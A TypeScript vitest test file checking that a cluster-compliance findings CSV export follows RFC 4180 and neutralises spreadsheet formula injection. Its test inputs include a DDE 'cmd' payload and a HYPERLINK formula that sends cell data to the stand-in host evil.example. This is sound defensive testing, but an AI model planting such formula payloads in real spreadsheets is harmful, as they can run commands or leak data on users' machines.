import { describe, expect, it } from 'vitest';

import type { Finding } from '../../shared/catalog/types.js';
import { findingsCsvChunks } from '../../shared/findings/findingsCsv.js';
import { spreadsheetSafe } from '../../shared/findings/spreadsheetSafe.js';
import { inventoryArcCluster, inventoryConnectedClusterId, extension } from '../support/azureRows.js';
import { evaluate, inventoryFrom, mixedFleetRows } from './mixedFleet.js';
import { contractColumns, csvObjects, FORMULA_START, parseCsvStrict } from './rfc4180.js';

function csvOf(findings: Iterable<Finding>): string {
  return [...findingsCsvChunks(findings)].join('');
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

/** The text with the apostrophes neutralisation puts at the start and after a tab, CR, LF or `;`. */
const unneutralised = (cell: string): string => cell.replace(/(^|[\t\r\n;])'/g, '$1');

describe('findings.csv (findingsCsvChunks)', () => {
  const result = evaluate(inventoryFrom(mixedFleetRows()));
  const text = csvOf(result.findings);

  it('is strict RFC 4180 with CRLF line endings', () => {
    expect(() => parseCsvStrict(text)).not.toThrow();
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
  });

  it('has a header row with the contract columns', () => {
    const { header } = csvObjects(text);
    expect(() => contractColumns(header)).not.toThrow();
    expect(new Set(header).size).toBe(header.length);
  });

  it('has one row per finding, in the order of the findings, with their values', () => {
    const { header, rows } = csvObjects(text);
    const col = contractColumns(header);
    expect(rows).toHaveLength(result.findings.length);
    result.findings.forEach((finding, index) => {
      const row = rows[index] ?? {};
      expect(row[col.clusterId]).toBe(finding.clusterId);
      expect(row[col.clusterName]).toBe(finding.clusterName);
      expect(row[col.kind]).toBe(finding.clusterKind);
      expect(row[col.subscription]).toBe(finding.subscriptionId);
      expect(row[col.resourceGroup]).toBe(finding.resourceGroup);
      expect(row[col.controlId]).toBe(finding.controlId);
      expect(row[col.controlTitle]).toBe(finding.controlTitle);
      expect(row[col.severity]).toBe(finding.severity);
      expect(row[col.status]).toBe(finding.status);
      expect(row[col.reason]).toBe(spreadsheetSafe(finding.reason));
      const ids = (row[col.benchmarkIds] ?? '').split(';');
      expect(ids).toHaveLength(finding.benchmarks.length);
      finding.benchmarks.forEach((ref, n) => expect(ids[n]).toContain(ref.id));
    });
  });

  it('writes only the header for no findings', () => {
    const { header, rows } = csvObjects(csvOf([]));
    expect(header.length).toBeGreaterThan(10);
    expect(rows).toEqual([]);
  });
});

describe('findings.csv quoting', () => {
  function onlyCluster(name: string, extra: Record<string, unknown> = {}) {
    const row = { ...inventoryArcCluster({ name: 'quoted' }), ...extra, name };
    const findings = evaluate(inventoryFrom([row])).findings;
    const { header, rows } = csvObjects(csvOf(findings));
    return { col: contractColumns(header), rows, findings };
  }

  it.each([
    ['a comma', 'edge, west'],
    ['quotes', 'the "main" cluster'],
    ['a line feed', 'line one\nline two'],
    ['CRLF', 'line one\r\nline two'],
    ['all of them', 'a,"b"\r\nc'],
    ['non-ASCII letters, CJK and emoji', 'clúster-Zürich-東京-🚀'],
  ])('round-trips a cluster name with %s', (_label, name) => {
    const { col, rows } = onlyCluster(name);
    expect(rows).toHaveLength(10);
    for (const row of rows) expect(row[col.clusterName]).toBe(name);
  });

  it('round-trips a reason that contains commas, quotes and a formula in the middle', () => {
    const { col, rows, findings } = onlyCluster('q', {
      properties: {
        connectivityStatus: 'Connected',
        agentVersion: '1.2.3',
        distribution: 'k3s, "edge" =1+1',
      },
    });
    const ds04 = findings.findIndex((f) => f.controlId === 'DS-04');
    expect(findings[ds04]?.reason).toContain('k3s, "edge" =1+1');
    expect(rows[ds04]?.[col.reason]).toBe(findings[ds04]?.reason);
  });

  it('encodes non-ASCII text as UTF-8 (no replacement characters, no Latin-1)', () => {
    const name = 'clúster-東京-🚀';
    const findings = evaluate(inventoryFrom([{ ...inventoryArcCluster({ name: 'x' }), name }])).findings;
    const bytes = Buffer.from(csvOf(findings), 'utf8');
    expect(bytes.includes(Buffer.from(name, 'utf8'))).toBe(true);
    expect(new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toContain(name);
  });
});

describe('findings.csv formula-injection neutralisation', () => {
  describe('spreadsheetSafe', () => {
    it.each(DANGEROUS.map((c) => [JSON.stringify(c), c]))(
      'neutralises a value starting with %s, keeping the text',
      (_label, c) => {
        const value = `${c}HYPERLINK("http://x")`;
        const safe = spreadsheetSafe(value);
        expect(safe).not.toMatch(FORMULA_START);
        expect(safe).toContain(value);
      },
    );

    it.each(['=HYPERLINK("http://x")', '+1', '-1', '@SUM(A1:A2)', '\t=1', '\r=1', "=cmd|' /C calc'!A0"])(
      'neutralises %j',
      (value) => {
        expect(spreadsheetSafe(value)).not.toMatch(FORMULA_START);
        expect(unneutralised(spreadsheetSafe(value))).toBe(value);
      },
    );

    it.each(['edge-01', 'a=b', 'x+y', 'user@example.com', '', 'PASS', '/subscriptions/s', 'Ökö'])(
      'leaves %j unchanged',
      (value) => {
        expect(spreadsheetSafe(value)).toBe(value);
      },
    );
  });

  it('neutralises dangerous cluster names, subscriptions and resource groups in every row', () => {
    const names = ['=HYPERLINK("http://x")', '+SUM(1,2)', '-2+3', '@cmd', '\tTAB', '\r=1'];
    const rows = names.map((name, index) => ({
      ...inventoryArcCluster({ name: `c${index}` }),
      name,
      subscriptionId: index % 2 === 0 ? '=1+1' : '+1',
      resourceGroup: index % 2 === 0 ? '@rg' : '-rg',
    }));
    const findings = evaluate(inventoryFrom(rows)).findings;
    const text = csvOf(findings);
    const { header, rows: records } = csvObjects(text);
    const col = contractColumns(header);
    expect(records).toHaveLength(names.length * 10);
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        expect(cell, `${column} = ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      }
    }
    for (const name of names) {
      const cells = records.filter((r) => unneutralised(r[col.clusterName] ?? '') === name);
      expect(cells, name).toHaveLength(10);
    }
  });

  it('neutralises a reason and a control title that start with a formula character', () => {
    const [base] = evaluate(inventoryFrom([inventoryArcCluster({ name: 'r' })])).findings;
    if (!base) throw new Error('no finding');
    const findings: Finding[] = DANGEROUS.map((c) => ({
      ...base,
      reason: `${c}HYPERLINK("http://evil.example/?"&A1, "click")`,
      controlTitle: `${c}1+1`,
    }));
    const { header, rows } = csvObjects(csvOf(findings));
    const col = contractColumns(header);
    rows.forEach((row, index) => {
      expect(row[col.reason]).not.toMatch(FORMULA_START);
      expect(row[col.reason]).toContain(findings[index]?.reason);
      expect(row[col.controlTitle]).not.toMatch(FORMULA_START);
    });
  });

  it('neutralises an extension name that starts a cell (source ids and names stay text)', () => {
    const id = inventoryConnectedClusterId('ext');
    const findings = evaluate(
      inventoryFrom([
        inventoryArcCluster({ name: 'ext' }),
        { ...extension(id, 'sse', 'microsoft.azure.secretstore', 'Failed'), name: '=evil()' },
      ]),
    ).findings;
    const records = parseCsvStrict(csvOf(findings));
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(FORMULA_START);
  });
});
